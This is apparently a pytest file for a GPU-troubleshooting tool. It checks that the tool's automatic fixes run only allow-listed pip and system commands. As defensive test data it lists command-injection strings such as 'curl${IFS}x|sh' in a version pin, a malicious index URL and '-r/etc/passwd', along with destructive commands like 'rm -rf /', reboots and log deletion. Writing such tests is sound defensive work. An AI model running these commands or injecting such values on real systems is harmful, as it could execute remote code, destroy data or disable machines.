"""fix runs a step only when every argument matches the pattern of its place in the command."""

from __future__ import annotations

import pytest

from gpudoctor.remedy.patterns import NEVER_RUN, SYSTEM_COMMANDS, check

PY = "/home/ana/project/.venv/bin/python"


def held(kind, risk, *argv, python=PY, allow_system=False):
    return check(kind, risk, tuple(argv), python, allow_system)


@pytest.mark.parametrize(
    "argv",
    [
        (
            PY,
            "-m",
            "pip",
            "install",
            "torch==2.5.1+cu124",
            "--index-url",
            "https://download.pytorch.org/whl/cu124",
        ),
        (PY, "-m", "pip", "install", "torch==2.11.*", "torchvision==0.26.*"),
        (PY, "-m", "pip", "install", "tensorflow[and-cuda]==2.20.0"),
        (PY, "-m", "pip", "install", "jax[cuda13]"),
        (
            PY,
            "-m",
            "pip",
            "install",
            "onnxruntime-gpu==1.23.2",
            "--extra-index-url",
            "http://127.0.0.1:8080/x",
        ),
        (PY, "-m", "pip", "uninstall", "-y", "onnxruntime", "onnxruntime-gpu"),
        (PY, "-m", "pip", "install", "nvidia-nccl-cu12==2.21.5", "torch==2.6.0rc1", "x==1.0.post1.dev3"),
    ],
)
def test_the_steps_the_planner_writes_run(argv):
    assert held("pip", "python-env", *argv) is None


def test_uv_steps_run():
    argv = (
        "uv",
        "pip",
        "install",
        "--python",
        PY,
        "torch==2.5.1+cu124",
        "--index-url",
        "https://x.org/whl/cu124",
    )
    assert held("uv", "python-env", *argv) is None
    assert held("uv", "python-env", "uv", "pip", "uninstall", "--python", PY, "torch") is None


@pytest.mark.parametrize(
    "argv, reason",
    [
        # A version string from a crafted torch/version.py or METADATA, placed into a pin.
        ((PY, "-m", "pip", "install", "torch==2.5.1;curl${IFS}x|sh"), "is not a plain requirement"),
        ((PY, "-m", "pip", "install", "torch==2.5.1 --index-url=http://evil"), "is not a plain requirement"),
        ((PY, "-m", "pip", "install", "torch==$(id)"), "is not a plain requirement"),
        ((PY, "-m", "pip", "install", "torch @ https://evil/x.whl"), "is not a plain requirement"),
        ((PY, "-m", "pip", "install", "-r/etc/passwd"), "option '-r/etc/passwd' is not one"),
        (
            (PY, "-m", "pip", "install", "torch", "--trusted-host", "evil"),
            "option '--trusted-host' is not one",
        ),
        (
            (PY, "-m", "pip", "install", "torch", "--index-url", "https://u:p@evil/x"),
            "is not a plain http(s) URL",
        ),
        ((PY, "-m", "pip", "install", "torch", "--index-url", "file:///tmp/x"), "is not a plain http(s) URL"),
        (
            (PY, "-m", "pip", "install", "torch", "--index-url", "https://evil/x?y=1"),
            "is not a plain http(s) URL",
        ),
        ((PY, "-m", "pip", "install", "torch", "--index-url"), "--index-url without a URL"),
        ((PY, "-m", "pip", "install", "-y", "torch"), "option '-y' is not one"),
        ((PY, "-m", "pip", "download", "torch"), "not of the form"),
        ((PY, "-m", "pip", "install"), "not of the form"),
        (("/usr/bin/python3", "-m", "pip", "install", "torch"), "is not the target environment's"),
        (("/a b/python", "-m", "pip", "install", "torch"), "is not a plain absolute path"),
        (("/venv/../../usr/bin/python", "-m", "pip", "install", "torch"), "is not a plain absolute path"),
        (("python", "-m", "pip", "install", "torch"), "is not a plain absolute path"),
    ],
)
def test_a_smuggled_argument_makes_the_step_refuse(argv, reason):
    h = held("pip", "python-env", *argv)
    assert h is not None and h.refused, h
    assert reason in h.reason


def test_an_unknown_target_refuses_every_package_step():
    h = held("pip", "python-env", PY, "-m", "pip", "install", "torch", python=None)
    assert h.refused and "target environment's (unknown)" in h.reason


@pytest.mark.parametrize("kind", sorted(NEVER_RUN))
def test_driver_reboot_manual_and_env_steps_stay_instructions_even_with_allow_system(kind):
    h = held(kind, "reboot" if kind == "reboot" else "system", "sudo", "reboot", allow_system=True)
    assert h is not None and not h.refused and h.reason == NEVER_RUN[kind]


def test_system_commands_need_allow_system():
    argv = ("sudo", "systemctl", "restart", "nvidia-fabricmanager")
    h = held("command", "system", *argv)
    assert not h.refused and "--allow-system" in h.reason
    assert held("command", "system", *argv, allow_system=True) is None
    assert (
        held(
            "command",
            "system",
            "nvidia-smi",
            "-q",
            "-d",
            "PERFORMANCE,TEMPERATURE",
            "-i",
            "0",
            allow_system=True,
        )
        is None
    )
    assert held("command", "system", PY, "-m", "pip", "check", allow_system=True) is None
    h = held("command", "system", "/usr/bin/python3", "-m", "pip", "check", allow_system=True)
    assert h.refused and "is not the target environment's" in h.reason


# What a user's rule pack may put in a fix (issue 24: `fix --allow-system` ran each of the first three).
POWER, GPU, LOGS = "fix never reboots", "changes a GPU's power limit", "deletes or rewrites the system's logs"
OTHER = "not one of the system commands fix runs"


@pytest.mark.parametrize(
    "argv, reason",
    [
        (("sudo", "systemctl", "start", "reboot.target"), POWER),
        (("journalctl", "--vacuum-time=1s"), LOGS),
        (("nvidia-smi", "-pl", "100"), GPU),
        (("sudo", "systemctl", "reboot"), POWER),
        (("systemctl", "--force", "poweroff"), POWER),
        (("systemctl", "isolate", "rescue.target"), POWER),
        (("/sbin/shutdown", "-h", "now"), POWER),
        (("sudo", "nvidia-smi", "-i", "0", "-pm", "1"), GPU),
        (("nvidia-smi", "--power-limit=100"), GPU),
        (("nvidia-smi", "mig", "-dci"), GPU),
        (("sudo", "journalctl", "--rotate"), LOGS),
        (("rm", "-rf", "/"), "rm removes, unloads or stops things"),
        (("sudo", "rmmod", "nvidia_uvm"), "rmmod removes"),
        (("sudo", "apt-get", "install", "-y", "nvidia-driver-580"), OTHER),
        (("systemctl", "restart", "sshd"), OTHER),
        (("systemctl", "enable", "--now", "evil"), OTHER),
        (("nvidia-smi", "-i", "0;reboot"), OTHER),
        (("journalctl", "-u", "$(id)"), OTHER),
        (("sudo",), OTHER),
    ],
)
def test_a_rule_packs_system_commands_stay_instructions(argv, reason):
    h = held("command", "system", *argv, allow_system=True)
    assert h is not None and not h.refused and reason in h.reason, h
    if reason != OTHER:  # said so with or without --allow-system
        assert held("command", "system", *argv) == h


def _shipped_commands() -> set[tuple[str, ...]]:
    """Every command step of the shipped rules, its facts filled in as a host would."""
    import re

    from gpudoctor.engine.loader import load_rules

    fill = {"{python.executable}": PY}
    return {
        tuple(fill.get(a, re.sub(r"\{[^}]*\}", "0", a)) for a in step.argv)
        for rule in load_rules([])
        for step in rule.fix
        if step.kind == "command"
    }


def test_of_the_shipped_rules_commands_fix_runs_the_diagnostics_and_service_starts_only():
    shipped = _shipped_commands()
    runs = {argv for argv in shipped if held("command", "system", *argv, allow_system=True) is None}
    assert runs == {
        (PY, "-m", "pip", "check"),
        ("journalctl", "-k", "-b", "--grep", "NVRM"),
        ("journalctl", "-u", "nvidia-fabricmanager", "-b"),
        ("journalctl", "-u", "nvidia-imex", "-b"),
        ("nvidia-smi", "-L"),
        ("nvidia-smi", "-q", "-d", "ECC,ROW_REMAPPER", "-i", "0"),
        ("nvidia-smi", "-q", "-d", "PERFORMANCE,TEMPERATURE,POWER", "-i", "0"),
        ("nvidia-smi", "-q", "-d", "PCIE", "-i", "0"),
        ("nvidia-smi", "nvlink", "--status"),
        ("nvidia-smi", "nvlink", "--status", "-i", "0"),
        ("nvidia-smi", "topo", "-m"),
        ("nvidia-smi", "topo", "-p2p", "r"),
        ("systemctl", "status", "nvidia-fabricmanager"),
        ("sudo", "systemctl", "enable", "--now", "nvidia-fabricmanager"),
        ("sudo", "systemctl", "enable", "--now", "nvidia-imex"),
        ("systemctl", "enable", "--now", "nvidia-persistenced"),
        ("sudo", "systemctl", "restart", "nvidia-fabricmanager"),
    }
    # GPU resets and mode changes of the shipped rules stay instructions too.
    for argv in [("sudo", "nvidia-smi", "-r", "-i", "0"), ("nvidia-smi", "-i", "0", "-e", "1")]:
        assert argv in shipped and GPU in held("command", "system", *argv, allow_system=True).reason
    # No shape of SYSTEM_COMMANDS is there for a command no shipped rule has.
    for shape in SYSTEM_COMMANDS:
        assert any(
            len(shape) == len(w) and all(p.match(x) for p, x in zip(shape, w))
            for argv in runs
            for w in [argv[1:] if argv[0] == "sudo" else argv]
        ), shape
